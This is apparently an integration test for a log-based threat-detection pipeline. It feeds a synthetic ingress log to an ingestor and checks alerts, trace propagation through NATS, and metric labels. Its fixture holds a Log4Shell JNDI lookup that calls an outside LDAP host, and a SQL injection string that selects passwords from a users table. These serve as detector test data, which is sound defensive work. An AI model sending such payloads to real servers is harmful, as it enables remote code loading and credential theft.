import { startOtlpCollector, type OtlpCollector } from '@vigil/dev-services/otlp-collector';
import { startStack, type Stack } from '@vigil/dev-services/stack';
import { waitUntil } from '@vigil/dev-services/wait-until';
import { jetstreamManager } from '@nats-io/jetstream';
import { connect } from '@nats-io/transport-node';
import { afterAll, beforeAll, describe, expect, test } from 'vitest';
import { WebSocket } from 'ws';
import { findKustomize } from './kustomize.ts';
import { OTHERS } from './metrics-in-code.ts';
import { queriesOf } from './policy/monitoring.ts';
import { selectorsOf } from './promql.ts';
import { render } from './render.ts';
import { shipped } from './shipped.ts';

/** What the tree says about services, held against services that run: as processes, told everything by their environment. */

const ATTACK = '"GET /?x=$%7Bjndi:ldap://198.51.100.9/a%7D HTTP/1.1" 200 12 "-" "curl/8"';
const at = '2026-03-02T10:00:00.123456789Z';
const front = '203.0.113.7 - - [02/Mar/2026:10:00:00 +0000] "GET /';
const padding = 'a'.repeat(3000);

/** An ingress controller's log as containerd writes it: the second request came in three parts, and one line is no request at all. */
const CONTAINER_LOG = [
  `${at} stdout F 203.0.113.6 - - [02/Mar/2026:10:00:00 +0000] ${ATTACK}`,
  `${at} stderr F W0302 10:00:00.123456       1 controller.go:1 something of the controller's own`,
  `${at} stdout P ${front}${padding}`,
  `${at} stdout P ${padding}`,
  `${at} stdout F ?q=1%27+UNION+SELECT+password,1+FROM+users--+- HTTP/1.1" 200 12 "-" "curl/8"`,
];

interface Frame {
  event: string;
  source: string;
  source_ip: string;
  request_path: string;
  traceparent?: string;
}

let collector: OtlpCollector;
let stack: Stack;
let socket: WebSocket;
const alerts: Frame[] = [];

beforeAll(async () => {
  collector = await startOtlpCollector();
  stack = await startStack({
    env: { OTEL_EXPORTER_OTLP_ENDPOINT: collector.endpoint, OTEL_BSP_SCHEDULE_DELAY: '200' },
  });
  socket = new WebSocket(new URL('/ws/alerts', stack.gatewayUrl.replace(/^http/, 'ws')), {
    headers: { 'x-api-key': stack.apiKey },
  });
  socket.on('message', (data: Buffer) => {
    const frame = JSON.parse(data.toString('utf8')) as Frame;
    if (frame.event === 'threat') alerts.push(frame);
  });
  await new Promise((resolve, reject) => void socket.once('open', resolve).once('error', reject));
}, 240_000);

afterAll(async () => {
  socket?.terminate();
  await stack?.stop();
  await collector?.close();
}, 60_000);

test('what the log shipper posts of a container log arrives as whole requests', async () => {
  const { url, init } = shipped(CONTAINER_LOG, {
    VIGIL_INGEST_URL: `${stack.ingestorUrl}/ingest/batch`,
    VIGIL_API_KEY: stack.apiKey,
    NODE_NAME: 'node-1',
  });
  const answer = await fetch(url, init);
  expect(await answer.json()).toMatchObject({ accepted: 2, rejected: {} });
  await waitUntil(() => alerts.length === 2, { timeoutMs: 60_000, what: 'two alerts' });
  // The attack stands in the last part, the path in the first two.
  const paths = new Map(alerts.map((alert) => [alert.source_ip, alert.request_path]));
  expect(paths).toEqual(
    new Map([
      ['203.0.113.6', '/'],
      ['203.0.113.7', `/${padding}${padding}`],
    ]),
  );
  expect(new Set(alerts.map(({ source }) => source))).toEqual(new Set(['node-1']));
});

describe('one trace', () => {
  test('leads from the push over both queues to the dispatcher', async () => {
    const traceId = traceOf(alerts[0]);
    const hops = [
      ['vigil-ingestor', /addBulk lines/i],
      ['vigil-scorer', /process lines/i],
      ['vigil-scorer', /addBulk scored/i],
      ['vigil-dispatcher', /process scored/i],
    ] as const;
    const seen = () => collector.spans.filter((span) => span.traceId === traceId);
    for (const [service, name] of hops)
      await waitUntil(() => seen().some((span) => span.service === service && name.test(span.name)), {
        timeoutMs: 30_000,
        what: `${String(name)} of ${service} in trace ${traceId}`,
      });
    // Each span but the first has its parent in the same trace: nothing on the way began anew. What a span is part of is told behind it.
    const first = () => {
      const spans = seen();
      const ids = new Set(spans.map(({ spanId }) => spanId));
      return spans.filter(({ parentSpanId }) => parentSpanId === undefined || !ids.has(parentSpanId));
    };
    await expect.poll(first).toHaveLength(1);
  });

  test('goes on in the header of the NATS message, the same as in the frame', async () => {
    const connection = await connect({ servers: stack.servers.nats.url.replace('nats://', '') });
    try {
      const manager = await jetstreamManager(connection);
      const header = async () =>
        (
          await manager.streams.getMessage('VIGIL_ALERTS', { last_by_subj: 'vigil.alerts.high' }).catch(() => undefined)
        )?.header.get('traceparent');
      const carried = await waitUntil(header, { timeoutMs: 30_000, what: 'the alert in JetStream' });
      expect(alerts.map(({ traceparent }) => traceparent)).toContain(carried);
    } finally {
      await connection.close();
    }
  });
});

test('whatever alerts, panels and triggers ask for is exported by a service that runs, with these labels', async () => {
  const objects = await render(await findKustomize(), 'overlays/production');
  const exported = new Map<string, Set<string>>();
  for (const { opsUrl } of [stack.ingestor, ...stack.scorers, stack.dispatcher, stack.gateway]) {
    const text = await (await fetch(`${opsUrl}/metrics`)).text();
    for (const [name, labels] of parseMetrics(text))
      exported.set(name, (exported.get(name) ?? new Set()).union(labels));
  }
  const asked = objects.flatMap(queriesOf).flatMap(({ query }) => selectorsOf(query));
  expect(asked.length).toBeGreaterThan(40);
  const problems = asked.flatMap(({ metric, labels }) => {
    if (OTHERS.test(metric)) return [];
    const known = exported.get(metric.replace(/_(bucket|sum|count)$/, '')) ?? exported.get(metric);
    if (known === undefined) return [`nobody exports ${metric}`];
    // Counters by reason have no samples before the first.
    const unknown =
      known.size === 0 ? [] : labels.filter((label) => !known.has(label) && !TARGET_LABELS.includes(label));
    return unknown.map((label) => `${metric} has no label ${label}`);
  });
  expect(problems).toEqual([]);
}, 120_000);

/** Prometheus' own, from the target. */
const TARGET_LABELS = ['namespace', 'pod', 'component', 'job'];

/** Names of metrics, histograms by their base, with the labels of their samples. */
function parseMetrics(text: string): Map<string, Set<string>> {
  const found = new Map<string, Set<string>>();
  for (const [, name] of text.matchAll(/^# TYPE (\S+)/gm)) found.set(name!, new Set());
  for (const [, sample, labels] of text.matchAll(/^(\w+)\{([^}]*)\}/gm)) {
    const base = found.has(sample!) ? sample! : sample!.replace(/_(bucket|sum|count)$/, '');
    for (const [, label] of labels!.matchAll(/(\w+)="/g)) found.get(base)?.add(label!);
  }
  return found;
}

function traceOf(frame: Frame | undefined): string {
  const traceId = /^00-([0-9a-f]{32})-[0-9a-f]{16}-01$/.exec(frame?.traceparent ?? '')?.[1];
  if (traceId === undefined) throw new Error(`the frame has no trace: ${JSON.stringify(frame)}`);
  return traceId;
}
